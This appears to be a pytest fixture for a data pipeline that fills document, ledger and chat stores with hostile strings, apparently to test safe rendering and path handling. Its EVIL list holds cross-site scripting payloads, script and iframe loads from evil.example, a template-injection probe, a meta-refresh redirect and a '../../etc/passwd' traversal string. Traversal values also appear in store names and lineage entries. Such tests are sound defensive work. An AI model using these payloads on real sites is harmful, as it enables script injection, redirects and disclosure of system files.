"""A root of real pages, and one whose every text is hostile."""

from pathlib import Path

import pytest

from pipeline.schema import CHAT
from pipeline.storage.ledger import Ledger
from pipeline.storage.store import Store

EVIL = [
    "<script>alert('text')</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(2)>", "javascript:alert(3)",
    "{{ 7*7 }}{% for x in () %}", "</textarea><script src=//evil.example/x.js></script>", "<iframe src=https://evil.example>",
    "<style>@import url(https://evil.example/x.css)</style>", "' onmouseover='alert(4)", "\u202eevil\x00\x1b[2J", "../../etc/passwd",
    "<a href=\"javascript:alert(5)\">x</a><meta http-equiv=refresh content=0;url=https://evil.example>",
]  # fmt: skip


@pytest.fixture(scope="session")
def hostile_root(tmp_path_factory, make_documents) -> Path:
    """raw -> kept (half dropped, each for a reason of its own note, one a duplicate, one edited), and a store of conversations."""
    import pyarrow as pa

    root = tmp_path_factory.mktemp("hostile") / "root <b>'\""
    rows = [f"{text} {i}" for i, text in enumerate(EVIL * 2)]
    odd = dict.fromkeys(("title", "url", "source", "lang", "licence", "date"), rows)
    table = make_documents(rows, **odd)
    ids = table["id"].to_pylist()
    raw, kept, chats = Store(root / "raw"), Store(root / "kept <i>'\""), Store(root / "chats")
    raw.put(0, table, Ledger.rows(ids), key="k", stage="ingest", input_ids=table["id"])
    columns = [{"name": field.name, "type": str(field.type)} for field in table.schema]
    raw.commit_manifest({"stage": "ingest", "shape": "DOCUMENT", "key": "k", "schema": columns}, [0])
    half = len(ids) // 2
    ledger = Ledger.rows(
        ids, reason=[None] * half + ["word_count.low"] * (half - 1) + ["dedup.near"], note=rows,
        duplicate_of=[None] * (len(ids) - 1) + [ids[0]], metrics={"word_count.words": range(len(ids))},
        edits=[[(0, 3, "<script>alert(6)</script>", "<b>email</b>")]] + [None] * (len(ids) - 1),
    )  # fmt: skip
    kept.put(0, table.slice(0, half), ledger, key="k", stage="quality", input_ids=table["id"])
    lineage = {"of": [{"store": "raw"}, {"store": "/etc"}, {"store": "../../outside"}]}
    options = {"filters": [{"word_count": {"min": 50}}]}
    kept.commit_manifest(
        {
            "stage": "quality",
            "shape": "DOCUMENT",
            "key": "k",
            "lineage": lineage,
            "options": options,
            "schema": columns,
        },
        [0],
    )
    turns = [
        {"role": role, "content": f"{text} {i}", "reasoning": text}
        for i, text in enumerate(EVIL)
        for role in ("user", "assistant")
    ]
    chat = pa.Table.from_pylist([{"id": "c" * 32, "messages": turns, "url": EVIL[0]}], CHAT)
    chats.put(0, chat, Ledger.rows(chat["id"]), key="k", stage="sft", input_ids=chat["id"])
    chats.commit_manifest({"stage": "sft", "shape": "CHAT", "key": "k"}, [0])
    outside = Store(root.parent / "outside")
    outside.put(0, table, Ledger.rows(ids), key="k", stage="ingest", input_ids=table["id"])
    outside.commit_manifest({"stage": "ingest", "shape": "DOCUMENT", "key": "k"}, [0])
    return root
